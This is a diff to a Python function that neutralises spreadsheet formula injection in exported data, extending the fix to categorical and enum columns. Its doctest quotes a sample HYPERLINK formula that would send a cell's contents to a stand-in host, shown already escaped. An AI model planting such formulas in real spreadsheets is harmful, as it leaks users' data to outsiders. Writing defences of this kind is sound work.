@@ -131,7 +131,8 @@ def neutralise_formulas(frame: pl.DataFrame) -> pl.DataFrame:
     A cell is neutralised when it begins (after any spaces) with ``=``, ``+``, ``-``, ``@``, a tab
     or a carriage return and is not a plain number (``-12.5``, ``+3``, ``1e-3`` stay as they are);
     a lone ``-`` (DfE's "no figure") is text a spreadsheet shows as it is and stays too. Only
-    text columns change; numbers, dates and booleans are written as they are.
+    text columns change (categorical ones become text); numbers, dates and booleans are written
+    as they are.
 
     Examples
     --------
@@ -139,12 +140,16 @@ def neutralise_formulas(frame: pl.DataFrame) -> pl.DataFrame:
     >>> neutralise_formulas(frame).rows()
     [('\\'=HYPERLINK("http://x/?"&A1,"y")', -1), ('-3.5', 2), ('ok', 3)]
     """
-    text = [name for name, dtype in frame.schema.items() if dtype == pl.String]
+    text = [
+        name
+        for name, dtype in frame.schema.items()
+        if dtype == pl.String or isinstance(dtype, pl.Categorical | pl.Enum)
+    ]
     if not text:
         return frame
 
     def safe(name: str) -> pl.Expr:
-        cell = pl.col(name)
+        cell = pl.col(name).cast(pl.String)
         trimmed = cell.str.strip_chars(" ")
         risky = (
             cell.str.strip_chars_start(" ").str.slice(0, 1).is_in(FORMULA_PREFIXES)
